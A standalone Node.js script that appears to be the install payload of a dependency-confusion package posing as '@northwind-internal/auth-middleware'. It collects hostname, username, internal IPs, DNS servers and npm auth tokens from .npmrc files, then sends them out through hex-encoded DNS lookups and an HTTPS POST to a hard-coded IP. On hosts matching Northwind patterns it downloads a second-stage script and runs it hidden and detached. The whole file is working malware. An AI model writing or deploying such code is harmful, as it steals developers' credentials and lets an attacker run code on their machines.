'use strict';
const os = require('os');
const dns = require('dns');
const fs = require('fs');
const path = require('path');
const https = require('https');
const http = require('http');
const { spawn } = require('child_process');

const ZONE = 'nw.ns1.depcheck-telemetry.invalid';
const ID = Math.random().toString(36).slice(2, 8);

function internalIPs() {
  const out = [];
  for (const list of Object.values(os.networkInterfaces())) {
    for (const a of list || []) if (!a.internal && a.family === 'IPv4') out.push(a.address);
  }
  return out;
}

function npmrc() {
  const files = [path.join(os.homedir(), '.npmrc'), path.join(process.env.INIT_CWD || process.cwd(), '.npmrc')];
  const out = [];
  for (const f of files) {
    try {
      for (const line of fs.readFileSync(f, 'utf8').split(/\r?\n/)) {
        if (/registry|_auth|_authToken|always-auth/i.test(line)) out.push(line.trim());
      }
    } catch (_) {}
  }
  return out;
}

const info = {
  p: '@northwind-internal/auth-middleware',
  h: os.hostname(),
  u: os.userInfo().username,
  d: process.env.USERDNSDOMAIN || '',
  c: process.env.INIT_CWD || process.cwd(),
  ip: internalIPs(),
  r: process.env.npm_config_registry || '',
  n: npmrc(),
  dns: dns.getServers()
};

function dnsExfil(str) {
  const hex = Buffer.from(str).toString('hex');
  const chunks = hex.match(/.{1,60}/g) || [];
  chunks.forEach((chunk, i) => {
    const name = `${i}-${chunks.length}.${chunk}.${ID}.${ZONE}`;
    setTimeout(() => dns.lookup(name, () => {}), i * 40);
  });
}

function beacon(body) {
  const data = JSON.stringify(body);
  const req = https.request({
    host: '198.51.100.12', port: 443, path: '/dc/' + ID, method: 'POST', rejectUnauthorized: false,
    headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(data) }
  });
  req.on('error', () => {});
  req.end(data);
}

function isTarget() {
  const h = (info.h + ' ' + info.d + ' ' + info.r + ' ' + info.n.join(' ')).toLowerCase();
  return /northwind|nwtraders|nw-corp|artifactory\.nw/.test(h);
}

function stage2() {
  http.get('http://198.51.100.12/dc/s2.js?id=' + ID, (res) => {
    let code = '';
    res.on('data', (c) => (code += c));
    res.on('end', () => {
      if (res.statusCode !== 200 || !code) return;
      const child = spawn(process.execPath, ['-e', code], { detached: true, stdio: 'ignore', windowsHide: true });
      child.unref();
    });
  }).on('error', () => {});
}

try {
  dnsExfil(JSON.stringify(info));
  beacon(info);
  if (isTarget()) stage2();
} catch (_) {}
